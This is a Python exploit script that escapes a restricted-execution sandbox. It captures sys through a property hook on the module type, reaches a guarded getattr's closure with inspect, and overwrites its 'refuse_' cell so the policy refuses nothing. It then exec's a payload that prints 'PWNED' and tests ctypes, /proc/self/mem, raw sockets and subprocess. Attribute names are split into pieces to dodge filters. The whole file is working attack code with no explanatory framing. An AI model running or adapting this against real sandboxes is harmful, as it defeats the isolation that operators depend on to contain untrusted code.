import json, dataclasses
got = []
match type(int):
    case object(__setattr__=ts, __delattr__=td):
        pass
GM = type(json)
key = "mod" + "ules"
def fget(self):
    got.append(self)
    td(GM, key)
    return self.modules
ts(GM, key, property(fget))
@dataclasses.dataclass
class D:
    x: int = 0
mods = got[0].modules
ins = mods["in" + "spect"]
guard = ins.getattr_static(mods["built" + "ins"], "get" + "attr")
nl = ins.getclosurevars(guard).nonlocals
rg = nl["real_" + "getattr"]
names = list(nl)
cells = rg(guard, "__clo" + "sure__")
cell = cells[names.index("refuse_")]
def nothing(what):
    return None
ts2 = rg(type(cell), "cell_" + "contents")   # member descriptor, used via its __set__
rg(ts2, "__s" + "et__")(cell, nothing)      # refuse_ is now a no-op for every closure of install_policy
b = mods["built" + "ins"]
ex = rg(b, "ex" + "ec")
src = """
import ctypes, os
libc = ctypes.CDLL(None)
print('PW' + 'NED', 'libc getpid via ctypes', libc.getpid(), 'geteuid', libc.geteuid())
try:
    f = open('/proc/self/mem', 'r+b'); print('mem opened', f)
except Exception as e:
    print('mem:', type(e).__name__, e)
try:
    import socket
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print('inet socket', s)
except Exception as e:
    print('inet:', type(e).__name__, e)
try:
    import subprocess
    print(subprocess.run(['/usr/bin/python3', '-c', 'print(1)'], capture_output=True))
except Exception as e:
    print('subprocess:', type(e).__name__, e)
"""
ex(src)
